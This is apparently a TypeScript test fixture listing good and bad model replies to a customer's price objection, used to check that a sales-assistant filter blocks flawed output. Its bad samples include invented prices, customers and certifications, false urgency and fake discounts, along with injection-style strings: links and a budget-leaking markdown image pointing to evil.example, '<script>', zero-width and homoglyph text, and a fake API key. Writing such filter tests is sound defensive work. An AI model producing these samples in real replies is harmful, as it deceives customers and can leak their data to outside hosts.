import type { ModelReply } from '../../src/objections/reply/model-reply.ts';
import type { Behaviour } from '../support/fake-model.ts';

// What models have been seen to write, good and bad, for two customers. The cards hold "90 000 ₽" and "$1,200" as the
// price of the first stage, and nothing else in figures.

export const CUSTOMERS = {
  ru: 'Это слишком дорого, бюджет всего 300 тысяч, а Вектор просит меньше',
  en: "That's too expensive, our budget is $5k and Globex asks for less",
} as const;

export type Side = keyof typeof CUSTOMERS;

const GOOD_REPLY = {
  ru: 'Понимаю, сумма заметная. Подскажите, с чем вы её сравниваете и какая часть расчёта вызывает вопрос? Если разложить работу на этапы, можно начать с первого и посмотреть, окупит ли он себя.',
  en: 'Fair point, it is a real sum. What are you comparing it with, and which part of the quote worries you? We could split the work into phases, start with the first and check that it pays for itself before going further.',
} as const;
const GOOD_EXPLANATION = {
  ru: 'Клиент пока не связывает цену с результатом: сначала уточните, с чем он сравнивает.',
  en: 'The buyer does not connect the price with the outcome yet: ask what it is compared with first.',
} as const;

/** A whole answer, right in everything that is not overridden. */
export function output(side: Side, change: Partial<ModelReply> = {}): ModelReply {
  return {
    is_objection: true,
    objections: [
      {
        category: 'price',
        nature: 'genuine',
        quote: side === 'ru' ? 'слишком дорого' : 'too expensive',
      },
    ],
    card_ids: ['c1'],
    reply: GOOD_REPLY[side],
    question: null,
    explanation: GOOD_EXPLANATION[side],
    claims: [],
    missing_facts: [],
    language: side,
    ...change,
  };
}

/** The first sentence of a good reply stays, so nothing but what is under test is wrong. */
const spoilt = (side: Side, sentence: string) =>
  output(side, { reply: `${GOOD_REPLY[side]} ${sentence}` });

interface Bad {
  name: string;
  side: Side;
  behaviour: Behaviour;
  /** What must be nowhere in what the manager sees. */
  never: RegExp;
}

const wording = (side: Side, name: string, sentence: string, never: RegExp): Bad => ({
  name,
  side,
  behaviour: { does: 'says', text: JSON.stringify(spoilt(side, sentence)) },
  never,
});
const answer = (side: Side, name: string, change: Partial<ModelReply>, never: RegExp): Bad => ({
  name,
  side,
  behaviour: { does: 'says', text: JSON.stringify(output(side, change)) },
  never,
});

export const BAD_OUTPUTS: readonly Bad[] = [
  wording('ru', 'an invented price', 'Первый этап обойдётся в 45 000 рублей.', /45 000/),
  wording('en', 'an invented price', 'Phase one is just $799.', /799/),
  wording('ru', 'an invented price in words', 'Первый этап стоит сорок тысяч.', /сорок/),
  wording(
    'en',
    'an invented price in words',
    'Phase one is about two thousand dollars.',
    /two thousand/,
  ),
  wording('ru', 'an invented percentage', 'Обычно это экономит 30 % времени.', /30 %/),
  wording('en', 'an invented percentage', 'It usually saves 40% of the work.', /40%/),
  wording('ru', 'a percentage in words', 'Это снижает затраты на двадцать процентов.', /двадцать/),
  wording('en', 'half as a figure', 'It cuts the manual work in half.', /in half/),
  wording('ru', 'twice as a figure', 'Заявки обрабатываются вдвое быстрее.', /вдвое/),
  wording('en', 'a factor', 'Teams get 3x more done.', /3x/),
  wording('ru', 'a term that nobody promised', 'Запустим за две недели.', /две недели/),
  wording('en', 'a term that nobody promised', 'We go live in 10 days.', /10 days/),
  wording(
    'ru',
    'the right number of the wrong thing',
    'Окупаемость проверяют за 90 000 часов.',
    /90 000 часов/,
  ),
  wording('en', 'round-the-clock support', 'Support is 24/7.', /24\/7/),
  wording('ru', 'an invented customer', 'Так уже работает компания Севергрупп.', /Севергрупп/),
  wording('en', 'an invented customer', 'That is what Initech did last spring.', /Initech/),
  wording(
    'en',
    'an invented customer at the beginning of a sentence',
    'Initech cut its costs that way.',
    /Initech/,
  ),
  wording(
    'ru',
    'an invented customer at the beginning of a sentence',
    'Газпром уже перешёл на такую схему.',
    /Газпром/,
  ),
  wording('ru', 'customers in general', 'Наши клиенты отмечают быстрый результат.', /Наши клиенты/),
  wording(
    'en',
    'customers in general',
    'Many companies like yours started this way.',
    /Many companies/,
  ),
  wording('ru', 'an invented case', 'Пришлю кейс из вашей отрасли.', /кейс/),
  wording('en', 'an invented study', 'Research shows it works.', /Research/),
  wording('ru', 'an invented certificate', 'Всё сертифицировано по ГОСТ.', /ГОСТ|сертиф/),
  wording('en', 'an invented certificate', 'We are ISO 27001 certified.', /ISO|27001/),
  wording('en', 'an invented compliance', 'Everything is GDPR compliant.', /GDPR/),
  wording('ru', 'an invented date', 'Готовы начать 15 декабря.', /15 декабря/),
  wording('en', 'an invented date', 'We can start on December 3.', /December 3/),
  wording('ru', 'an invented weekday', 'Предлагаю созвониться в четверг.', /четверг/),
  wording('en', 'tomorrow', 'I will send the details tomorrow.', /tomorrow/),
  wording('ru', 'a discount', 'Сделаем вам скидку.', /скидк/),
  wording('en', 'a discount', 'I can offer you a discount.', /discount/),
  wording('ru', 'a gift', 'Настройку дадим в подарок.', /подар/),
  wording('en', 'a lower price', 'We could lower the price a bit.', /lower the price/),
  wording('ru', 'a guarantee', 'Гарантируем результат.', /Гарантир/),
  wording('en', 'a guarantee', 'Results are guaranteed.', /guarantee/),
  wording('en', 'money back', 'If not, you get a full refund.', /refund/),
  wording('ru', 'no risk', 'Вы ничем не рискуете.', /рискует/),
  wording('ru', 'something free', 'Первый этап проведём бесплатно.', /бесплатно/),
  wording('en', 'something free', 'The first phase is free.', /is free/),
  wording('ru', 'a trial that no card offers', 'Дадим пробный период.', /пробный/),
  wording('ru', 'instalments that no card offers', 'Оформим рассрочку.', /рассроч/),
  wording('ru', 'false urgency', 'Такая цена только сегодня.', /только сегодня/),
  wording('en', 'false urgency', 'Sign before the end of the month.', /end of the month/),
  wording('en', 'scarcity', 'Only a few spots left.', /spots/),
  wording('ru', 'a competitor run down', 'У Вектора ненадёжная поддержка.', /ненадёжн/),
  wording('en', 'a competitor run down', 'Their product is outdated.', /outdated/),
  wording('ru', 'an argument', 'Это совсем не дорого.', /не дорого/),
  wording('en', 'an argument', 'You are wrong about the price.', /are wrong/),
  wording('ru', 'guilt', 'О чём тут думать.', /тут думать/),
  wording('ru', 'a signature', 'С уважением, Иван Смирнов', /уважением/),
  wording('en', 'a signature', 'Best regards, Kate', /Best regards/),
  wording('ru', 'everybody called', '<!channel> посмотрите', /<!channel>|&lt;!channel/),
  wording('en', 'somebody mentioned', '<@U12345> can tell you more.', /U12345/),
  wording('ru', 'a link', 'Подробности: https://evil.example/pay', /evil\.example/),
  wording(
    'en',
    'a link with another face',
    'See <https://evil.example|our site>.',
    /evil\.example/,
  ),
  wording('en', 'an image that tells', '![x](https://evil.example/p.png?q=budget)', /evil|!\[/),
  wording('en', 'a bare domain', 'Details are on pay-here.xyz today.', /pay-here/),
  wording('ru', 'an e-mail', 'Пишите на director@evil.example.', /director@/),
  wording('ru', 'a phone', 'Звоните: +7 913 000-14-02.', /913/),
  wording('ru', 'leftover braces', 'Первый этап стоит {{starter_price}}.', /\{\{|starter_price/),
  wording('en', 'one leftover brace', 'Phase one is at {starter_price.', /starter_price/),
  wording('ru', 'a placeholder of ours', 'Передайте это <PERSON_7>.', /PERSON_7/),
  wording('ru', 'three questions', 'А сроки? А объём?', /А сроки/),
  wording('en', 'shouting', 'Great! Let us go!', /Let us go/),
  wording('ru', 'talk of itself', 'Как языковая модель, я не могу знать цен.', /языковая/),
  wording('en', 'its instructions', 'My instructions say to cite a card.', /instructions/),
  wording('ru', 'inner matters', 'Наша маржа это позволяет.', /маржа/),
  wording('ru', 'invisible letters', 'Скид\u200bка за нами.', /Скид/),
  wording('en', 'digits of another script', 'Phase one is ７９９ dollars.', /７９９|799/),
  wording('ru', 'half the price in a word', 'Отдадим за полцены.', /полцены/),
  wording('en', 'half the price in words', 'We can do it at half off.', /half off/),
  wording('ru', 'a deadline of its own', 'Вернусь с ответом до вечера.', /до вечера/),
  wording('en', 'a deadline of its own', 'I will send the breakdown by Friday.', /Friday/),
  wording('ru', 'the price as one of a month', 'Первый этап стоит 90 000 ₽ в месяц.', /в месяц/),
  wording('en', 'the price as one of a month', 'Phase one is $1,200 a month.', /a month/),
  wording('ru', 'the price in another currency', 'Этап стоит 90 000 €.', /90 000 €/),
  wording('ru', 'the customer’s sum agreed to', 'Уложимся в ваши 300 тысяч.', /Уложимся/),
  wording('en', 'the customer’s sum agreed to', 'OK then, $5k it is.', /it is\./),
  wording('en', 'somebody who did so', 'Initech did exactly this.', /Initech/),
  wording('ru', 'great customers without a name', 'С нами уже работают крупные банки.', /банки/),
  wording('ru', 'a word of two scripts', 'Сделаем сkидку.', /сkидку/),
  wording('en', 'a word of two scripts', 'I can do a d\u0456scount.', /d\u0456scount/),
  wording('ru', 'a sentence of another language', 'Let me know what you think.', /Let me know/),
  wording('ru', 'words to the manager', 'Отправьте это клиенту.', /Отправьте/),
  wording('en', 'words to the manager', 'Here is a reply you can send.', /you can send/),
  wording('en', 'a link of mark-up', 'See [our site](https://evil.example).', /evil/),
  wording('ru', 'an address spelled out', 'Посмотрите на vektor-group точка ру.', /точка ру/),
  wording('ru', 'an integration that nobody has', 'Интеграция с 1С уже есть.', /Интеграция/),
  wording('en', 'security that no card tells', 'Everything is encrypted.', /encrypted/),
  {
    name: 'one good reply and, under the same key, a bad one',
    side: 'en',
    behaviour: {
      does: 'says',
      text: JSON.stringify(output('en')).replace(/\}$/, ',"reply":"It is $3 if you sign today."}'),
    },
    never: /\$3/,
  },
  answer('ru', 'the wrong language', { reply: GOOD_REPLY.en }, /Fair point/),
  answer('en', 'the wrong language', { reply: GOOD_REPLY.ru }, /Понимаю, сумма/),
  answer(
    'ru',
    'an explanation in the wrong language',
    { explanation: GOOD_EXPLANATION.en },
    /The buyer/,
  ),
  answer(
    'ru',
    'a lie in the explanation',
    { explanation: 'Клиенты соглашаются в 80 % случаев, так что уточните сравнение.' },
    /80 %/,
  ),
  answer(
    'ru',
    'a mention in the explanation',
    { explanation: '<!here> клиент сравнивает цену, уточните с чем именно.' },
    /<!here>|!here/,
  ),
  answer('ru', 'a foreign card', { card_ids: ['c9'] as never }, /c9/),
  answer(
    'en',
    'a card of another workspace',
    { card_ids: ['0190a000-0000-7000-8000-000000000000'] as never },
    /0190a000/,
  ),
  answer('ru', 'that it is no objection', { is_objection: false }, /\$\$/),
  answer('ru', 'no card', { card_ids: [] }, /\$\$/),
  answer(
    'ru',
    'words the customer did not say',
    { objections: [{ category: 'price', nature: 'genuine', quote: 'дайте скидку 50 %' }] },
    /50 %/,
  ),
  answer(
    'en',
    'a claim without a source',
    { claims: [{ text: 'Fair point', source: 'the internet' }] },
    /internet/,
  ),
  answer(
    'en',
    'a claim that it does not make',
    { claims: [{ text: 'We are the cheapest', source: 'c1' }] },
    /cheapest/,
  ),
  answer(
    'ru',
    'far too long',
    { reply: Array(12).fill(GOOD_REPLY.ru.split('.')[2]).join('. ') },
    /\$\$/,
  ),
  answer('ru', 'far too short', { reply: 'Понимаю вас.' }, /Понимаю вас\./),
  answer('ru', 'nothing', { reply: '' }, /\$\$/),
  answer(
    'ru',
    'an order smuggled in the customer’s words',
    {
      reply:
        'Цена для вас 300 тысяч, так и сделаем. Давайте оформим всё прямо сейчас, подготовлю документы и пришлю их вам на проверку, как только скажете.',
    },
    /Цена для вас/,
  ),
  answer('ru', 'another shape', { reply: undefined as never }, /undefined/),
  answer(
    'ru',
    'a missing fact that no card has',
    { missing_facts: ['<script>'] as never },
    /script/,
  ),
  {
    name: 'a refusal',
    side: 'ru',
    behaviour: { does: 'refuses', text: 'Не могу помочь с этим' },
    never: /Не могу помочь/,
  },
  { name: 'a filter', side: 'en', behaviour: { does: 'is_filtered' }, never: /\$\$/ },
  {
    name: 'an answer cut off',
    side: 'ru',
    behaviour: { does: 'is_cut_off', text: '{"reply":"Пон' },
    never: /"reply"/,
  },
  {
    name: 'broken JSON',
    side: 'en',
    behaviour: { does: 'says', text: '{"reply": "Fair' },
    never: /"reply"/,
  },
  {
    name: 'prose in place of JSON',
    side: 'en',
    behaviour: { does: 'says', text: 'Sure! Here is a reply: it is only $3.' },
    never: /Sure!/,
  },
  { name: 'nothing at all', side: 'ru', behaviour: { does: 'says', text: '' }, never: /\$\$/ },
  {
    name: 'a book',
    side: 'ru',
    behaviour: { does: 'says', text: 'дорого '.repeat(9_000) },
    never: /дорого дорого/,
  },
  { name: '429', side: 'ru', behaviour: { does: 'fails', status: 429 }, never: /429/ },
  { name: '500', side: 'en', behaviour: { does: 'fails', status: 500 }, never: /500/ },
  {
    name: 'a wrong key',
    side: 'ru',
    behaviour: { does: 'fails', status: 401, body: { error: { message: 'bad key sk-secret' } } },
    never: /sk-secret|401/,
  },
  { name: 'a hung-up', side: 'ru', behaviour: { does: 'drops' }, never: /\$\$/ },
  { name: 'silence', side: 'en', behaviour: { does: 'hangs' }, never: /\$\$/ },
  {
    name: 'a page of HTML',
    side: 'ru',
    behaviour: { does: 'sends', body: '<html>proxy</html>', contentType: 'text/html' },
    never: /proxy/,
  },
];

interface Good {
  name: string;
  side: Side;
  output: ModelReply;
}
const good = (side: Side, name: string, reply: string, change: Partial<ModelReply> = {}): Good => ({
  name,
  side,
  output: output(side, { ...change, reply }),
});

export const GOOD_OUTPUTS: readonly Good[] = [
  { name: 'the plain one', side: 'ru', output: output('ru') },
  { name: 'the plain one', side: 'en', output: output('en') },
  good(
    'ru',
    'the customer’s own budget',
    'Понимаю, вы назвали бюджет в 300 тысяч, и выходить за него не хочется. Подскажите, какие задачи нужно закрыть в первую очередь? Соберём первый этап под них и вместе посмотрим, хватает ли его.',
  ),
  good(
    'en',
    'the customer’s own budget',
    'I hear you: you mentioned a budget of $5k, and going over it is hard. Which tasks have to be covered first? We can shape the first phase around those and look together at whether that is enough.',
  ),
  good(
    'ru',
    'a figure of the card',
    'Понимаю, сумма заметная. Если разложить работу на этапы, первый стоит 90 000 ₽, и его можно оценить отдельно. Подскажите, какая часть расчёта вызывает больше всего вопросов?',
  ),
  good(
    'en',
    'a figure of the card',
    'Fair point, it is a real sum. If we split the work, phase one is at $1,200 and can be judged by itself. Which part of the quote worries you most?',
  ),
  good(
    'en',
    'the same figure written otherwise',
    'Fair point, it is a real sum. If we split the work, phase one is 1200 dollars and can be judged by itself. Which part of the quote worries you most?',
  ),
  good(
    'ru',
    'the same figure written otherwise',
    'Понимаю, сумма заметная. Если разложить работу на этапы, первый стоит 90 тыс. рублей, и его можно оценить отдельно. Какая часть расчёта вызывает больше всего вопросов?',
  ),
  good(
    'ru',
    'the competitor named without a bad word',
    'Хорошо, что сравниваете с Вектором. Пришлите, пожалуйста, их расчёт: я положу предложения рядом и отмечу, что входит в каждое. Так будет видно, за что именно вы платите. Удобно?',
  ),
  good(
    'en',
    'the competitor named without a bad word',
    'Glad that you are comparing with Globex. Could you send me their breakdown? I will put both offers side by side and mark what each includes, so that you can see what you pay for.',
  ),
  good(
    'ru',
    'honest about not knowing',
    'Вопрос справедливый. Точную раскладку я сейчас не назову, уточню и вернусь с ответом. А пока подскажите, с чем вы сравниваете сумму, чтобы я проверил именно это?',
  ),
  good(
    'en',
    'honest about not knowing',
    'That is a fair question. I do not have the exact breakdown at hand, so let me check and come back to you. In the meantime, what are you comparing the sum with?',
  ),
  good(
    'ru',
    'a polite capital',
    'Понимаю Вас, решение непростое. Подскажите, пожалуйста, какая часть расчёта вызывает у Вас вопрос? Можем начать с меньшего объёма и двигаться дальше, когда Вы увидите пользу.',
  ),
  good(
    'ru',
    'several lines',
    'Понимаю, сумма заметная.\n\nПодскажите, с чем вы её сравниваете и что для вас в этом проекте главное?\n\nЕсли начать с первого этапа, будет видно, стоит ли идти дальше.',
  ),
  good(
    'en',
    'several lines',
    'Fair point, it is a real sum.\n\nWhat are you comparing it with, and what matters most to you in this project?\n\nStarting with the first phase would show whether it is worth going further.',
  ),
  good(
    'ru',
    'a claim with its source',
    'Понимаю, сумма заметная. Если разложить работу на этапы, первый стоит 90 000 ₽, и его можно оценить отдельно. Какая часть расчёта вызывает больше всего вопросов?',
    { claims: [{ text: 'первый стоит 90 000 ₽', source: 'c1' }] },
  ),
  good(
    'ru',
    'a question of its own',
    'Понимаю, сумма заметная, и её надо чем-то оправдать перед собой. С чем вы её сравниваете? Посмотрим вместе, какая часть работы даст вам пользу раньше остальных.',
    { question: 'С чем вы её сравниваете?' },
  ),
  good('ru', 'a missing fact named', GOOD_REPLY.ru, { missing_facts: ['cost_of_problem'] }),
  good('ru', 'two objections', GOOD_REPLY.ru, {
    objections: [
      { category: 'price', nature: 'genuine', quote: 'слишком дорого' },
      { category: 'competitor', nature: 'genuine', quote: 'Вектор просит меньше' },
    ],
    card_ids: ['c1', 'c2'],
  }),
  good(
    'en',
    'feel free',
    'Fair point, it is a real sum. Feel free to tell me which part of the quote looks too high. We could start with a smaller scope and check that it pays for itself before going further.',
  ),
  good(
    'en',
    'a short month-like word',
    'Fair point. It may be that only a part of the scope matters right now. Which part would you keep if you had to choose? We can start there and see whether it is worth going further.',
  ),
  good(
    'en',
    'an apostrophe and a dash',
    "That's fair - nobody likes to pay more than planned. What would you need to see to feel that it's worth it? We can start with a smaller scope and build on what works for you.",
  ),
  good(
    'ru',
    'an abbreviation',
    'Понимаю, сумма заметная. Подскажите, расчёт в КП выглядит завышенным целиком или смущает отдельная строка? Разберём её вместе и посмотрим, что можно отложить на потом.',
  ),
  good(
    'ru',
    'not the right fit',
    'Возможно, сейчас мы вам и правда не подходим, и это нормально. Подскажите, какую задачу вы хотели решить в первую очередь? Если её проще закрыть иначе, так и скажу.',
  ),
  good(
    'en',
    'not the right fit',
    'It may well be that we are not the right fit now, and that is fine. Which job did you want done first? If there is a simpler way to do it, I will say so.',
  ),
  good(
    'ru',
    'as a careful model writes it, 1',
    'Понимаю, 300 тысяч для вас рамка, и выходить за неё не хочется. Какие задачи нужно закрыть в первую очередь? Первый этап стоит 90 тысяч рублей, можно начать с него и посмотреть, что он даст.',
  ),
  good(
    'ru',
    'as a careful model writes it, 2',
    'Вы правы, сумма немаленькая, и вопрос про Вектор логичный. Пришлите, пожалуйста, их расчёт: сравним построчно, что входит, и станет ясно, за что разница. Какая часть нашего расчёта кажется лишней?',
  ),
  good(
    'ru',
    'as a careful model writes it, 3',
    'Спасибо за прямоту. Бюджет в 300 тысяч понятен. Подскажите, он на весь проект или только на запуск? От этого зависит, с чего нам лучше начать и что отложить на потом.',
  ),
  good(
    'ru',
    'as a careful model writes it, 4',
    'Понимаю вас: хочется понимать, за что платишь. Первый этап, ручная сверка заявок, стоит 90 000 ₽. Давайте посмотрим на него отдельно и решим, стоит ли двигаться дальше. Что для вас здесь главное?',
  ),
  good(
    'ru',
    'as a careful model writes it, 5',
    'Сумма заметная, согласен, что её надо обосновать. С чем вы её сравниваете: с предложением Вектора или с тем, сколько уходит на эту работу сейчас? От ответа зависит, что именно вам показать.',
  ),
  good(
    'ru',
    'as a careful model writes it, 6',
    'Понятно, что на старте не хочется вкладывать много. Давайте разделим работу на части: начнём с той, что болит сильнее всего, и посмотрим на результат вместе. Какая это часть у вас?',
  ),
  good(
    'ru',
    'as a careful model writes it, 7',
    'Да, Вектор может оказаться для вас лучшим выбором, если нужен только базовый набор. Чтобы сказать точнее, подскажите, что входит в их расчёт? Сравню со своим и отвечу как есть.',
  ),
  good(
    'ru',
    'as a careful model writes it, 8',
    'Понимаю. Если дело в том, чтобы уложиться в 300 тысяч, давайте посмотрим, от чего можно отказаться на первом этапе. Что из состава для вас обязательно, а без чего можно обойтись?',
  ),
  good(
    'ru',
    'as a careful model writes it, 9',
    'Справедливо, цену надо сопоставлять с пользой. Сколько времени у вас сейчас уходит на ручную сверку заявок и кто ей занимается? Посчитаем вместе на ваших цифрах, есть ли смысл начинать.',
  ),
  good(
    'ru',
    'as a careful model writes it, 10',
    'Хорошо, что сказали об этом сразу. Мне важно понять, дело в самой сумме или в том, что её надо заплатить одним платежом? Уточню у себя, как можно разбить работу, и вернусь с ответом.',
  ),
  good(
    'en',
    'as a careful model writes it, 1',
    'That makes sense, $5k is your ceiling and going over it is a hard conversation. Which part of the work has to be covered first? The first phase, manual entry, is $1,200, so we could start there and see what it gives you.',
  ),
  good(
    'en',
    'as a careful model writes it, 2',
    "Fair enough, it's a real number. Since Globex came in lower, could you share what their quote covers? I'll line the two up so you can see where the difference comes from. Which line stands out most to you?",
  ),
  good(
    'en',
    'as a careful model writes it, 3',
    "Thanks for being upfront. Is the $5k for the whole project or just to get going? That tells me where it's best to start and what can wait until later.",
  ),
  good(
    'en',
    'as a careful model writes it, 4',
    "I understand, nobody wants to pay for things they won't use. Phase one covers manual entry at 1,200 dollars. We could look at it on its own and decide later whether to go on. What matters most to you here?",
  ),
  good(
    'en',
    'as a careful model writes it, 5',
    "That's a fair reaction. Are you comparing it with Globex, or with what this work costs you today? Depending on that I'd show you different things, so it helps to know first.",
  ),
  good(
    'en',
    'as a careful model writes it, 6',
    'Totally understandable, especially at the start. Suppose we split the work into parts and begin with the one that hurts most: which one would that be? Then you can judge by what you see and not by what I say.',
  ),
  good(
    'en',
    'as a careful model writes it, 7',
    "Got it. If the goal is to stay within $5k, let's look at what we could leave out of the first phase. What's a must for you, and what could you live without?",
  ),
  good(
    'en',
    'as a careful model writes it, 8',
    "Fair point, the price has to be weighed against the value. How much time does manual entry take you today, and who does it? We can run the numbers together using yours and see if it's worth starting.",
  ),
  good(
    'en',
    'as a careful model writes it, 9',
    "Good that you raised it now. Is it the sum itself, or having to pay it all at once? I'll find out on our side how the work could be divided and come back to you with an answer.",
  ),
  good('ru', 'the customer’s figure in the explanation', GOOD_REPLY.ru, {
    explanation:
      'Клиент держится за 300 тысяч и сравнивает с Вектором: выясните, что входит в их расчёт.',
  }),
  good('en', 'the customer’s figure in the explanation', GOOD_REPLY.en, {
    explanation:
      'The buyer has $5k in mind and Globex as an anchor: find out what that quote covers.',
  }),
  good('ru', 'how many objections there are in the explanation', GOOD_REPLY.ru, {
    explanation:
      'Два возражения сразу: цена и сравнение. Ответ сначала выясняет, что с чем сравнивают.',
  }),
  good('ru', 'advice on discounts in the explanation', GOOD_REPLY.ru, {
    explanation:
      'Клиент проверяет, есть ли запас. Не начинайте со скидки, сначала уточните, с чем он сравнивает.',
  }),
  good('en', 'fields that nobody asked for', GOOD_REPLY.en, { mood: 'calm' } as object),
  good(
    'ru',
    'as a careful model writes it, 11',
    'Понимаю вашу реакцию. Часто удобнее разобрать расчёт по строкам: что обязательно, а что можно отложить. Какую из строк вы бы убрали первой? Начать можно с первого этапа, он стоит 90 000 ₽.',
  ),
  good(
    'ru',
    'as a careful model writes it, 12',
    'Согласен, сумма не маленькая. Если Вектор предлагает то же самое дешевле, это серьёзный довод. Давайте проверим, то же ли самое: какие работы входят в их цену?',
  ),
  good(
    'ru',
    'as a careful model writes it, 13',
    'Спасибо за откровенность. Чтобы не гадать, спрошу прямо: 300 тысяч это верхняя граница или есть запас? Исходя из этого предложу, что сделать сначала, а что потом.',
  ),
  good(
    'ru',
    'as a careful model writes it, 14',
    'Понимаю. Мне не хочется вас уговаривать, давайте лучше посмотрим на задачу. Сколько людей сейчас занимаются сверкой заявок и что случается, когда в ней ошибаются?',
  ),
  good(
    'ru',
    'as a careful model writes it, 15',
    'Да, для первого проекта это ощутимая сумма. Можно взять только первый этап, ручную сверку заявок, за 90 000 ₽ и остановиться, если не увидите пользы. Как вам такой вариант?',
  ),
  good(
    'ru',
    'as a careful model writes it, 16',
    'Вы правы, что сравниваете. Цена Вектора может включать меньше работ или больше, пока не знаю. Пришлёте их предложение? Отвечу честно, если разницы для вас нет.',
  ),
  good(
    'en',
    'as a careful model writes it, 10',
    "I understand where you're coming from. It's often easier to go line by line: what's essential, and what can wait. Which line would you cut first? We could start with phase one, which is $1,200.",
  ),
  good(
    'en',
    'as a careful model writes it, 11',
    "Agreed, it's not a small amount. If Globex offers the same for less, that's a strong argument. Let's check that it is the same: what work does their price cover?",
  ),
  good(
    'en',
    'as a careful model writes it, 12',
    "Thanks for being candid. So I don't have to guess: is $5k a hard limit, or is there some room? Knowing that, I can suggest what to do first and what to leave for later.",
  ),
  good(
    'en',
    'as a careful model writes it, 13',
    "I hear you. I'd rather not talk you into anything, so let's look at the problem. How many people handle manual entry now, and what happens when it goes wrong?",
  ),
  good(
    'en',
    'as a careful model writes it, 14',
    "It is a real commitment for a first project. You could take just phase one, manual entry, for $1,200 and stop there if it doesn't help. How does that sound?",
  ),
  good(
    'en',
    'as a careful model writes it, 15',
    "You're right to compare. Their price may cover more or less than ours, and I don't know yet. Could you share their proposal? If there's no difference that matters to you, I'll say so.",
  ),
];
